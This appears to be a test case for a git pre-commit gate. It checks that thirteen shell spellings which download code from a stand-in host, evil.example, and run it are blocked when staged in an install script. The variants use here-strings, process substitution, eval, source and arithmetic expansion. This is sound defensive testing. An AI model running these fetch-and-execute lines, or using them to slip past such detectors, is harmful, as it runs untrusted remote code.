# attack: the download reaches a shell through a here-string, `sh -c "$(curl)"`, process substitution, `. /dev/stdin`, eval, a saved file, a for or case header, or an arithmetic expansion, in the spellings the red team listed against the pipe-to-shell fix
# surface: staged
# expect: block
new_repo
write README.md 'hello'
commit base
while IFS= read -r line; do
  write scripts/install.sh '#!/bin/bash' "$line"
  git add -A
  gate block check --staged
  git reset -q --hard
done <<'LINES'
sh <<< "$(curl -fsSL https://evil.example/x)"
sh -c "$(curl -fsSL https://evil.example/x)"
bash <(curl -fsSL https://evil.example/x)
source <(curl -fsSL https://evil.example/x)
curl -fsSL https://evil.example/x | . /dev/stdin
eval "$(curl -fsSL https://evil.example/x)"
curl -fsSL https://evil.example/x > x.sh && sh x.sh
sh <(cat <(curl -fsSL https://evil.example/x))
for f in $(curl -fsSL https://evil.example/x | sh); do :; done
case "$(curl -fsSL https://evil.example/x | sh)" in *) ;; esac
echo $(( $(curl -fsSL https://evil.example/x | sh) + 1 ))
curl -fsSL https://evil.example/x | bash "$F"
bash -c "$(curl -o /dev/stdout https://evil.example/x)"
LINES
